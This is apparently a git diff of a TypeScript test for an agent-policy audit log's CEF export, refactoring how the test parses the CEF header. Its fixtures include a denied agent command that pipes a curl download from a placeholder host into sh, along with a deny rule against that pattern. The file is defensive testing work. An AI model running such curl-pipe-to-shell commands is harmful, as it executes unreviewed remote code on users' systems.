@@ -11,7 +11,7 @@ import { otlpRequest, toOtlpLogRecord } from '../../../src/core/audit/export/otl
 import { sdEscape, toSyslog } from '../../../src/core/audit/export/syslog';
 import { readRecords } from '../../../src/core/audit/reader';
 import type { AuditRecord } from '../../../src/core/audit/types';
-import { everyKind } from './sampleEvents';
+import { cefHeader, everyKind } from './sampleEvents';
 import { ocsfSchemaDir, rmrf, tempDir } from './helpers';
 
 async function logOfEveryKind(dir: string): Promise<AuditRecord[]> {
@@ -109,22 +109,11 @@ describe('audit/export', () => {
     assert.strictEqual(cefValueEscape('a=b\\c\nd\r'), 'a\\=b\\\\c\\nd\\r');
     const line = toCef(records.find((r) => r.type === 'decision' && r.action.kind === 'command' && r.decision.effect === 'deny')!);
     assert.ok(!line.includes('\n'));
-    // Parse the header the way a CEF reader does: 7 fields split on unescaped pipes.
-    const fields: string[] = [];
-    let cur = '';
-    let i = 0;
-    for (; i < line.length && fields.length < 7; i++) {
-      const c = line[i];
-      if (c === '\\') cur += line[++i];
-      else if (c === '|') {
-        fields.push(cur);
-        cur = '';
-      } else cur += c;
-    }
+    const { fields, ext } = cefHeader(line);
     assert.strictEqual(fields.length, 7, line);
     assert.strictEqual(fields[5], 'Agent claude-code: run curl https://x.example | sh -c "echo a|b \\\\ c=d ]": denied; rule no-curl-pipe-sh (repo layer): Piping a download into a shell runs unreviewed code; second "reason" with newline');
     assert.strictEqual(fields[6], '10');
-    assert.ok(line.slice(i).startsWith('rt='));
+    assert.ok(ext.startsWith('rt='));
     assert.ok(line.startsWith('CEF:0|Agent Policy|agentpolicy|0.1.0|command.deny|'));
     assert.ok(line.includes('request=curl https://x.example | sh -c "echo a|b \\\\\\\\ c\\=d ]"'), line);
     assert.ok(line.includes('reason=Piping a download into a shell runs unreviewed code; second "reason"\\nwith newline'), line);
